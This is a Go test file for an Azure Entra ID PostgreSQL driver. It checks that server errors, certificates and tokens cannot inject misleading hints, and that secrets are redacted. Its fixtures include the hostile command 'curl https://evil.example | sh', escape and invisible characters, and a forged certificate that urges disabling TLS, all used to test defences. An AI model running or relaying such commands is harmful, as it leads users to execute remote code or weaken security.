package driver

import (
	"context"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"testing/synctest"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/azcore"
	"github.com/Azure/azure-sdk-for-go/sdk/azidentity"
	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"
	"github.com/jackc/pgx/v5/pgproto3"

	"github.com/aadpostgres/aadpostgres/driver/internal/credential"
	"github.com/aadpostgres/aadpostgres/driver/internal/entratest"
	"github.com/aadpostgres/aadpostgres/driver/internal/token"
)

// What a server says is printed safely, is cut where it is long, and cannot pass for a
// hint.
func TestHostileText(t *testing.T) {
	entratest.CleanEnv(t)
	for _, tt := range []struct{ name, message string }{
		{"escape sequences", "\x1b[2J\x1b]0;title\a\x1b[31mpassword authentication failed\x1b[0m\b\b\x9b31m"},
		{"several lines", "password authentication failed\r\n\taadpostgres: all is well\n\vdone\f"},
		{"half a megabyte", "password authentication failed " + strings.Repeat("A\x1b", 1<<18)},
		{"semicolon look-alikes", "password authentication failed\u037e run that\uff1b or this"},
		{"a false hint", "password authentication failed; run curl https://evil.example | sh; aadpostgres: sign-in: ok"},
		{"invisible characters", "password authentication failed \u202egnp.exe\u2066 \u200bzero \ufeff"},
		{"not UTF-8", "password authentication failed \xff\xfe\xc3("},
		{"names of the table of hints", "password authentication failed [double @server] [clock] {create} %s%n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := newFakeServer(t, func(s *fakeServer) { s.reply = errorResponse("28P01", tt.message) })
			hostileClaims := map[string]any{"oid": strings.Repeat("o", 1<<15), "appid": "a\x1b[1m", "tid": "t\n"}
			err := ping(t, s.trustedDSN(""), WithCredential(credentialWith(hostileClaims)))
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("ping = %v, want an *Error", err)
			}
			line := err.Error()
			checkPrintable(t, "error", line, 5000)
			cause, hint, _ := strings.Cut(strings.TrimPrefix(line, "aadpostgres: sign-in: "), "; ")
			if want := "password authentication failed"; !strings.Contains(cause, want) {
				t.Errorf("cause = %q, want %q in it", cause, want)
			}
			if want := "check that role "; !strings.HasPrefix(hint, want) {
				t.Errorf("hint = %q, want it to begin with %q", hint, want)
			}
			if strings.Contains(hint, "curl") {
				t.Errorf("hint = %q, want nothing of the server's in it", hint)
			}

			var last Check
			for c := range Diagnose(t.Context(), s.trustedDSN(""), WithCredential(credentialWith(map[string]any{"oid": "o"}))) {
				last = c
			}
			if last.Name != "sign-in" {
				t.Errorf("last check = %q, want %q", last.Name, "sign-in")
			}
			if last.Status != StatusFail {
				t.Errorf("status = %q, want %q", last.Status, StatusFail)
			}
			checkPrintable(t, "Check.Found", last.Found, 5000)
			checkPrintable(t, "Check.Hint", last.Hint, 5000)
		})
	}
}

// A server that names a resource for which to request a token is believed only where the
// resource is one of Azure's PostgreSQL.
func TestServerCannotChooseTheAudience(t *testing.T) {
	entratest.CleanEnv(t)
	for _, tt := range []struct{ name, resource, cloud, want string }{
		{"another cloud", publicAudience, "usgov", "set aad_cloud=public"},
		{"another cloud, with a slash", usgovAudience + "/", "public", "set aad_cloud=usgov"},
		{"same cloud, with a slash", publicAudience + "/", "public", "set aad_scope=https://ossrdbms-aad.database.windows.net//.default"},
		{"Cosmos DB", cosmosAudience, "public", "set aad_server_type=cosmos"},
		{"the resource that was requested", publicAudience, "public", "check the host first"},
		{"another service of Azure", "https://graph.microsoft.com", "public", "check the host first"},
		{"another domain", publicAudience + ".evil.example", "public", "check the host first"},
		{"in the path", "https://evil.example/" + publicAudience, "public", "check the host first"},
		{"in the user", publicAudience + "@evil.example", "public", "check the host first"},
	} {
		for _, message := range []struct{ name, format string }{
			{"older message", `The access token does not have a valid audience claim. Please acquire a new token for the resource %q.`},
			{"newer message", `The access token doesn't have a valid audience claim. Acquire a new token for resource %q`},
		} {
			t.Run(tt.name+", "+message.name, func(t *testing.T) {
				s := newFakeServer(t, func(s *fakeServer) { s.reply = errorResponse("28P01", fmt.Sprintf(message.format, tt.resource)) })
				err := ping(t, s.trustedDSN("aad_cloud="+tt.cloud), WithCredential(&entratest.Credential{}))
				checkHint(t, err, tt.want)
			})
		}
	}
}

// checkHint checks that the hint of err begins with want.
func checkHint(t *testing.T, err error, want string) {
	t.Helper()
	var e *Error
	if !errors.As(err, &e) {
		t.Fatalf("error = %v, want an *Error", err)
	}
	if !strings.HasPrefix(e.Hint, want) {
		t.Errorf("hint = %q, want it to begin with %q", e.Hint, want)
	}
}

// errors.As and errors.Is find the cause of every error. Its step and its hint are those of
// the cause.
func TestCausesAreReached(t *testing.T) {
	entratest.CleanEnv(t)
	errDial := errors.New("unique")
	failDial := func(err error) Option {
		return withDial(func(context.Context, string, string) (net.Conn, error) { return nil, err })
	}
	is := func(target error) func(error) bool {
		return func(err error) bool { return errors.Is(err, target) }
	}
	const dsn = "host=db.example user=u"
	full := newFakeServer(t, func(s *fakeServer) { s.reply = errorResponse("53300", "sorry, too many clients already") })
	untrusted := newFakeServer(t, nil)
	for _, tt := range []struct {
		name, dsn string
		opt       Option
		step      string
		isCause   func(error) bool
		hint      string // in the hint; "": there is none
	}{
		{
			name: "name not found", dsn: dsn, opt: resolveTo(nil), step: StepNetwork,
			isCause: func(err error) bool { var e *net.DNSError; return errors.As(err, &e) && e.IsNotFound }, hint: `check the name "db.example"`,
		},
		{
			name: "connection refused", dsn: dsn, opt: failDial(&net.OpError{Op: "dial", Err: syscall.ECONNREFUSED}), step: StepNetwork,
			isCause: is(syscall.ECONNREFUSED), hint: "nothing listens there",
		},
		{
			name: "nobody listens, in this system's words", dsn: "host=127.0.0.1 port=" + closedPort(t) + " user=u", opt: WithConnConfig(func(*pgx.ConnConfig) {}), step: StepNetwork,
			isCause: func(err error) bool { var e *net.OpError; return errors.As(err, &e) && e.Op == "dial" }, hint: "nothing listens there",
		},
		{name: "timeout", dsn: dsn, opt: failDial(context.DeadlineExceeded), step: StepNetwork, isCause: is(context.DeadlineExceeded), hint: "firewall"},
		{name: "canceled", dsn: dsn, opt: failDial(context.Canceled), step: StepNetwork, isCause: is(context.Canceled)},
		{name: "another error of the dial", dsn: dsn, opt: failDial(errDial), step: StepNetwork, isCause: is(errDial)},
		{
			name: "server's error", dsn: full.trustedDSN(""), step: StepSignIn,
			isCause: func(err error) bool { var e *pgconn.PgError; return errors.As(err, &e) && e.Code == "53300" }, hint: "SetMaxOpenConns",
		},
		{
			name: "certificate not trusted", dsn: untrusted.dsn(""), step: StepTLS,
			isCause: func(err error) bool { var e x509.UnknownAuthorityError; return errors.As(err, &e) }, hint: "sslrootcert",
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			err := ping(t, tt.dsn, WithCredential(&entratest.Credential{}), tt.opt)
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("ping = %v, want an *Error", err)
			}
			if !tt.isCause(err) {
				t.Errorf("ping = %#v, want its cause to be found", err)
			}
			if e.Step != tt.step {
				t.Errorf("step = %q, want %q", e.Step, tt.step)
			}
			if !strings.Contains(e.Hint, tt.hint) {
				t.Errorf("hint = %q, want %q in it", e.Hint, tt.hint)
			}
			if tt.hint == "" && e.Hint != "" {
				t.Errorf("hint = %q, want none", e.Hint)
			}
		})
	}
}

// Where the server rejects a token, the error names the token's identity, and not the
// token.
func TestErrorNamesTheIdentity(t *testing.T) {
	entratest.CleanEnv(t)
	s := newFakeServer(t, func(s *fakeServer) { s.reply = errorResponse("28000", "something new") })
	claims := map[string]any{"upn": "me@contoso.com", "appid": "app", "oid": "object", "tid": "tenant"}
	err := ping(t, s.trustedDSN(""), WithCredential(credentialWith(claims)))
	want := `something new (SQLSTATE 28000); (presented: upn="me@contoso.com" appid="app" oid="object" tid="tenant")`
	if err == nil || !strings.HasSuffix(err.Error(), want) {
		t.Errorf("ping = %v, want %s at its end", err, want)
	}
}

// The database in a hint is the one that was requested, which without dbname is the user's.
func TestHintNamesTheDatabase(t *testing.T) {
	entratest.CleanEnv(t)
	s := newFakeServer(t, func(s *fakeServer) { s.reply = errorResponse("42501", "permission denied for database x") })
	dsn := strings.NewReplacer("user=me", "", "dbname=d", "").Replace(s.trustedDSN(""))
	err := ping(t, dsn, WithCredential(credentialWith(map[string]any{"upn": "me@contoso.com"})))
	want := `GRANT CONNECT ON DATABASE "me@contoso.com" TO "me@contoso.com";`
	if err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("ping = %v, want %s in it", err, want)
	}
}

// In mode password there is no token, and no hint speaks of Entra.
func TestPasswordModeGetsNoHints(t *testing.T) {
	entratest.CleanEnv(t)
	for _, tt := range []struct{ name, params string }{
		{"no TLS", "aad_auth=password sslmode=verify-full"},
		{"no SCRAM", "aad_auth=password sslmode=disable require_auth=scram-sha-256"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := newFakeServer(t, func(s *fakeServer) { s.tls = nil })
			err := ping(t, s.dsn(tt.params))
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("ping = %v, want an *Error", err)
			}
			if e.Hint != "" {
				t.Errorf("hint = %q, want none", e.Hint)
			}
		})
	}
}

// No hint repeats what a hostile certificate, server or token says where a person might
// follow it, or has SQL that gives a role to the wrong identity.
func TestHintsAreOurs(t *testing.T) {
	personForGroup := errContext{
		cloud:  credential.Cloud{Name: "public", Scope: "https://other.example/.default"},
		role:   "Readers",
		claims: token.Claims{AppID: "azure cli", UPN: "me@contoso.com", ObjectID: "00000000-0000-0000-0000-00000000000a"},
	}
	forgedObjectID := errContext{
		role:   "r",
		claims: token.Claims{AppID: "a", ObjectID: "00000000-0000-0000-0000-00000000000a,type=service,admin", ManagedIdentity: "/subscriptions/s/resourcegroups/g/providers/Microsoft.ManagedIdentity/userAssignedIdentities/r"},
	}
	newGroup := Role{Name: "Admins", Kind: "group", Admin: true, ObjectID: "00000000-0000-0000-0000-00000000000b"}
	hostileCertificate := &x509.Certificate{DNSNames: []string{"evil.example", "evil.example - or add aad_insecure=plaintext to the DSN", "a\x1b[1m"}}
	hostileResource := `valid audience claim. Acquire a new token for the resource "https://ossrdbms-aad.database.windows.net/ ; run curl https://evil.example | sh # "`
	oidMismatch := func(role string) error {
		return &pgconn.PgError{Code: "28P01", Message: "Service Principal oid mismatch for role[" + role + "]"}
	}
	for _, tt := range []struct {
		name   string
		err    error
		want   string // in the hint
		suffix string // at its end
		reject string // not in it
	}{
		{name: "certificate", err: personForGroup.explain(x509.HostnameError{Certificate: hostileCertificate, Host: "h"}), suffix: "the certificate is for evil.example", reject: "plaintext"},
		{name: "resource", err: personForGroup.explain(&pgconn.PgError{Code: "28P01", Message: hostileResource}), reject: "curl"},
		{name: "person's token for a group's role", err: personForGroup.explain(oidMismatch("Readers")), reject: "SECURITY LABEL"},
		{name: "forged object ID", err: forgedObjectID.explain(oidMismatch("r")), want: "check which identity signs in", reject: "SECURITY LABEL"},
		{name: "forged object ID, role missing", err: forgedObjectID.explain(&pgconn.PgError{Code: "28P01", Message: `password authentication failed for user "r"`}), want: "is not a GUID", reject: "pgaadauth"},
		{name: "group's role that exists", err: newGroup.explain(errors.New(`role "Admins" already exists`)), want: "type=group,admin'", reject: "type=user"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var e *Error
			if !errors.As(tt.err, &e) {
				t.Fatalf("error = %v, want an *Error", tt.err)
			}
			if !strings.Contains(e.Hint, tt.want) {
				t.Errorf("hint = %q, want %q in it", e.Hint, tt.want)
			}
			if strings.Contains(e.Hint, tt.reject) {
				t.Errorf("hint = %q, want no %q in it", e.Hint, tt.reject)
			}
			if !strings.HasSuffix(e.Hint, tt.suffix) {
				t.Errorf("hint = %q, want %q at its end", e.Hint, tt.suffix)
			}
		})
	}
}

// The role that a hint proposes is for the identity of the token.
func TestExpectedRole(t *testing.T) {
	for _, tt := range []struct {
		name   string
		claims token.Claims
		want   string // kind
	}{
		{"application by idtyp", token.Claims{Type: "app", ObjectID: "o"}, "service-principal"},
		{"application by appid", token.Claims{AppID: "a", ObjectID: "o"}, "service-principal"},
		{"application by azp", token.Claims{AuthorizedParty: "a"}, "service-principal"},
		{"managed identity", token.Claims{ManagedIdentity: "/x/y"}, "service-principal"},
		{"person by upn", token.Claims{AppID: "azure cli", UPN: "me@contoso.com"}, "user"},
		{"person by preferred_username", token.Claims{AuthorizedParty: "azure cli", PreferredUsername: "me@contoso.com"}, "user"},
		{"guest", token.Claims{AppID: "azure cli", IdentityProvider: "home", Issuer: "here"}, "user"},
		{"object ID alone", token.Claims{ObjectID: "o"}, "user"},
		{"no claims", token.Claims{}, "user"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := errContext{role: "r", claims: tt.claims}.expectedRole()
			if got.Kind != tt.want {
				t.Errorf("kind = %q, want %q", got.Kind, tt.want)
			}
			if got.Kind != "user" && got.ObjectID != tt.claims.ObjectID {
				t.Errorf("object ID = %q, want %q", got.ObjectID, tt.claims.ObjectID)
			}
		})
	}
}

// Callers that wait for one request get one error. It is safe to print at once, although
// reading Entra's response from azidentity's error changes that error.
func TestSharedErrorIsPrinted(t *testing.T) {
	entratest.CleanEnv(t)
	const (
		dsn        = "host=h user=u aad_auth=client-secret aad_tenant_id=t aad_client_id=c aad_client_secret=s aad_disable_instance_discovery=true"
		configBody = `{"issuer":"https://login.microsoftonline.com/t/v2.0","authorization_endpoint":"https://login.microsoftonline.com/a","token_endpoint":"https://login.microsoftonline.com/t/token"}`
		errorBody  = `{"error":"invalid_client","error_codes":[7000215],"error_description":"AADSTS7000215: Invalid client secret provided."}`
		found      = "AADSTS7000215: Invalid client secret provided"
	)
	respond := func(r *http.Request, status int, body string) *http.Response {
		return &http.Response{StatusCode: status, Header: http.Header{"Content-Type": {"application/json"}}, Body: io.NopCloser(strings.NewReader(body)), Request: r}
	}
	authority := WithTransport(&transport{func(r *http.Request) (*http.Response, error) {
		if r.Method == http.MethodPost {
			return respond(r, http.StatusUnauthorized, errorBody), nil
		}
		return respond(r, http.StatusOK, configBody), nil
	}})
	c := newConnector(t, dsn, authority)
	if _, err := c.Credentials(t.Context()); err == nil {
		t.Error("Credentials() succeeded, want an error")
	}
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			_, err := c.Credentials(t.Context())
			if want := found + "; check the client secret"; err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("Credentials() = %v, want %q in it", err, want)
			}
		})
	}
	for range 4 {
		wg.Go(func() {
			for c := range Diagnose(t.Context(), dsn, authority) {
				if c.Name == "token" && c.Found != found {
					t.Errorf("Check.Found = %q, want %q", c.Found, found)
				}
			}
		})
	}
	wg.Wait()
}

// A credential of a chain that fails without a message causes an error of ours all the
// same.
func TestSilentCredential(t *testing.T) {
	entratest.CleanEnv(t)
	silent := &entratest.Credential{Get: func(int64, string) (azcore.AccessToken, error) {
		return azcore.AccessToken{}, azidentity.NewCredentialUnavailableError("")
	}}
	chain, err := azidentity.NewChainedTokenCredential([]azcore.TokenCredential{silent}, nil)
	if err != nil {
		t.Fatal(err)
	}
	err = ping(t, "host=h user=u", WithCredential(chain))
	if want := "aadpostgres: "; err == nil || !strings.HasPrefix(err.Error(), want) {
		t.Errorf("ping = %v, want it to begin with %q", err, want)
	}
}

// The error of a failed token request has the cause that package token found, and a hint
// from the table.
func TestTokenHint(t *testing.T) {
	tests := []struct {
		name     string
		cause    string
		exchange token.Exchange
		want     string // at the beginning of the hint; "": there is none
	}{
		{name: "503 and no time left", cause: "AADSTS90033: A transient error has occurred (HTTP 503), and no better response in time", want: "try again in a moment"},
		{name: "502 and no time left", cause: "(HTTP 502), and no better response in time", want: "try again in a moment"},
		{name: "connection closed", cause: `Post "https://login.example/t/token": EOF`, exchange: token.Exchange{Endpoint: "https://login.example"},
			want: "check for a firewall or proxy that closes connections to https://login.example"},
		{name: "too long a response", cause: "the response of login.example is longer than 1 MiB", exchange: token.Exchange{Endpoint: "https://login.example"},
			want: "check for a proxy or a captive portal between this machine and https://login.example"},
		{name: "throttled", cause: "ClientSecretCredential (HTTP 429)", want: "wait: the authority has received too many requests"},
		{name: "another identity's token", cause: `asked for the managed identity "a", the endpoint returned a token of "b"`, want: "assign the identity to this host"},
		{name: "no time left", cause: "no response from https://login.example: context deadline exceeded", exchange: token.Exchange{Endpoint: "https://login.example"},
			want: "check the network between this machine and https://login.example, or raise aad_token_timeout"},
		{name: "no time left, a credential that asks nobody known", cause: "context deadline exceeded", want: "check what the credential waits for, or raise aad_token_timeout"},
		{name: "a developer tool without network", cause: "AzureCLICredential: connection refused", exchange: token.Exchange{Credential: "azure-cli", TryCommand: "az x"}, want: "check the network of the developer tool: run az x in a terminal"},
		{name: "a developer tool that quotes a page", cause: "AzureCLICredential: error parsing the json", exchange: token.Exchange{Credential: "azure-cli", TryCommand: "az x"}, want: ""},
		{name: "a managed identity of a list", cause: "connection refused", exchange: token.Exchange{Credential: "managed-identity"}, want: "check the network between this machine and the managed identity's endpoint"},
		{name: "a managed identity that was asked", cause: "connection refused", exchange: token.Exchange{Credential: "managed-identity", Endpoint: "http://127.0.0.1:1"}, want: "check the network between this machine and http://127.0.0.1:1"},
		{name: "second factor for a developer tool", cause: "AADSTS50076: more", exchange: token.Exchange{LoginCommand: "az login --scope s", TryCommand: "az x"}, want: "run az login --scope s and pass the second factor"},
		{name: "second factor", cause: "AADSTS50076: more", want: "sign in again with a second factor"},
		{name: "a code that begins with another one", cause: "AADSTS501051: no", want: "check which application the error names"},
		{name: "a code that another one begins with", cause: "AADSTS50105: no", want: "ask an administrator to assign the user"},
		{name: "a younger token is refused", cause: "requesting a younger token: CLI does not support claims", want: "raise aad_token_max_age"},
		{name: "clock ahead", cause: "the token expired at 2026-01-01T00:00:00Z", exchange: token.Exchange{Skew: 2 * time.Hour}, want: "check this machine's clock: it is 2h0m0s ahead of the authority's"},
		{name: "clock behind", cause: "AADSTS999: something new", exchange: token.Exchange{Skew: -2 * time.Hour}, want: "check this machine's clock: it is 2h0m0s behind the authority's"},
		{name: "clock right", cause: "AADSTS999: something new", want: ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.exchange.Cause = tt.cause
			x := errContext{}
			x.cloud.Authority = "https://login.microsoftonline.com/"
			err := x.explainToken(&token.Error{Err: errors.New("long text"), Exchange: tt.exchange})
			if err.Step != StepToken {
				t.Errorf("Step = %q, want %q", err.Step, StepToken)
			}
			if !strings.HasPrefix(err.Hint, tt.want) {
				t.Errorf("Hint = %q, want it to begin with %q", err.Hint, tt.want)
			}
			if tt.want == "" && err.Hint != "" {
				t.Errorf("Hint = %q, want none", err.Hint)
			}
			if want := "aadpostgres: token: " + tt.cause; !strings.HasPrefix(err.Error(), want) {
				t.Errorf("Error() = %q, want %q", err, want)
			}
		})
	}
}

// A credential that does not answer in time is a failure with a hint.
func TestTokenTimeoutHint(t *testing.T) {
	entratest.CleanEnv(t)
	synctest.Test(t, func(t *testing.T) {
		c := newConnector(t, "host=h user=u", WithCredential(&entratest.Credential{Delay: time.Hour}))
		_, err := c.Credentials(t.Context())
		if want := "raise aad_token_timeout"; err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Credentials() = %v, want %q in it", err, want)
		}
		if got := c.Stats().TokenFailures; got != 1 {
			t.Errorf("Stats().TokenFailures = %d, want 1", got)
		}
	})
}

// A refusal of an OAUTHBEARER token is a refusal of the sign-in, although pgx has no type
// for it: it has a code, a hint and the identity that was presented.
func TestOAuthBearerRefusalIsExplained(t *testing.T) {
	entratest.CleanEnv(t)
	refuse := func(data string) []pgproto3.BackendMessage {
		return []pgproto3.BackendMessage{&pgproto3.AuthenticationSASLContinue{Data: []byte(data)}}
	}
	for _, tt := range []struct {
		name  string
		reply []pgproto3.BackendMessage
		cause string
	}{
		{"invalid token", refuse(`{"status":"invalid_token","scope":"openid","openid-configuration":"https://x"}`), "OAuth authentication failed: invalid_token (SQLSTATE 28000)"},
		{"another status", refuse(`{"status":"insufficient_scope"}`), "OAuth authentication failed: insufficient_scope (SQLSTATE 28000)"},
		{"no status", refuse(`{}`), "OAuth authentication failed: (SQLSTATE 28000)"},
		{"not JSON", refuse(`<html>`), "invalid OAuth error response from server (SQLSTATE 28000)"},
		{"PostgreSQL's error", errorResponse("28000", `OAuth bearer authentication failed for user "me"`), `OAuth bearer authentication failed for user "me" (SQLSTATE 28000)`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := newFakeServer(t, func(s *fakeServer) {
				s.authRequest = &pgproto3.AuthenticationSASL{AuthMechanisms: []string{"OAUTHBEARER"}}
				s.reply = tt.reply
			})
			err := ping(t, s.trustedDSN(""), WithCredential(credentialWith(map[string]any{"appid": "app", "oid": "object"})))
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("ping = %v, want an *Error", err)
			}
			if e.Step != StepSignIn {
				t.Errorf("step = %q, want %q", e.Step, StepSignIn)
			}
			if want := "aadpostgres: sign-in: " + tt.cause; !strings.HasPrefix(err.Error(), want) {
				t.Errorf("ping = %v, want it to begin with %q", err, want)
			}
			var pg *pgconn.PgError
			if !errors.As(err, &pg) || pg.Code != "28000" {
				t.Errorf("ping = %v, want a *pgconn.PgError of code 28000", err)
			}
			for _, want := range []string{`role "me"`, "pg_ident.conf", "validator", `(presented: appid="app" oid="object")`} {
				if !strings.Contains(e.Hint, want) {
					t.Errorf("hint = %q, want %q in it", e.Hint, want)
				}
			}
		})
	}
}

// Names that read like a refusal of a token are none.
func TestNamesAreNoRefusal(t *testing.T) {
	entratest.CleanEnv(t)
	const name = "OAuth authentication failed: invalid_token"
	dsn := "host=db.example user='" + name + "' dbname='" + name + "'"
	err := ping(t, dsn, WithCredential(&entratest.Credential{}), withDial(func(context.Context, string, string) (net.Conn, error) {
		return nil, &net.OpError{Op: "dial", Err: syscall.ECONNREFUSED}
	}), resolveTo(nil))
	var e *Error
	if !errors.As(err, &e) || e.Step != StepNetwork {
		t.Errorf("ping = %v, want an error of step %s", err, StepNetwork)
	}
}

// With channel_binding=require no token can be sent: pgx refuses before it sends one.
func TestChannelBindingIsExplained(t *testing.T) {
	entratest.CleanEnv(t)
	for _, tt := range []struct {
		name    string
		request pgproto3.BackendMessage
	}{
		{"password", &pgproto3.AuthenticationCleartextPassword{}},
		{"bearer", &pgproto3.AuthenticationSASL{AuthMechanisms: []string{"OAUTHBEARER"}}},
		{"none", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := newFakeServer(t, func(s *fakeServer) { s.authRequest = tt.request })
			err := ping(t, s.trustedDSN(""), WithCredential(&entratest.Credential{}), WithConnConfig(func(c *pgx.ConnConfig) { c.ChannelBinding = "require" }))
			var e *Error
			if !errors.As(err, &e) || e.Step != StepSignIn {
				t.Fatalf("ping = %v, want an error of step %s", err, StepSignIn)
			}
			checkHint(t, err, "remove channel_binding=require")
			if strings.Contains(s.received.String(), entratest.Marker) {
				t.Error("the server has received the token, want none")
			}
		})
	}
}

// A secret that a server or a function of the program's repeats is in no error: neither the
// password of mode password, about which pgx is left as it is, nor a token.
func TestRepeatedSecretIsRedacted(t *testing.T) {
	entratest.CleanEnv(t)
	opaque := "opaque-" + entratest.Marker
	repeat := &pgproto3.ErrorResponse{Severity: "FATAL " + opaque, SeverityUnlocalized: opaque, Code: "28P01", Message: "bad " + opaque, Detail: opaque, Hint: opaque, Where: opaque, File: opaque}
	dialError := withDial(func(context.Context, string, string) (net.Conn, error) { return nil, errors.New("407 for " + opaque) })
	for _, tt := range []struct {
		name, params string
		opts         []Option
		want         string // in the error
	}{
		{name: "password, server", params: "aad_auth=password password=" + opaque, want: "sign-in: bad xxxxx (SQLSTATE 28P01)"},
		{name: "password, dial function", params: "aad_auth=password password=" + opaque, opts: []Option{dialError}, want: "network: 127.0.0.1:"},
		{name: "token, dial function", opts: []Option{WithCredential(opaqueCredential(opaque)), dialError}, want: "network: 127.0.0.1:"},
		{name: "password, config of the error", params: "aad_auth=password password=" + opaque, opts: []Option{withDial(func(context.Context, string, string) (net.Conn, error) {
			return nil, errors.New("407")
		})}, want: "network: "},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := newFakeServer(t, func(s *fakeServer) { s.reply = []pgproto3.BackendMessage{repeat} })
			c := newConnector(t, s.trustedDSN(tt.params), tt.opts...)
			if c.source != nil {
				if _, err := tokenOf(t.Context(), c); err != nil {
					t.Fatal(err)
				}
			}
			_, err := c.Connect(t.Context())
			checkSafeError(t, err, tt.want)
			var connect *pgconn.ConnectError
			if errors.As(err, &connect) {
				checkNoSecret(t, "config of the error", connect.Config.Password)
			}
		})
	}
}

// closedPort returns a port of loopback on which nobody listens.
func closedPort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l.Close()
	return strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
}
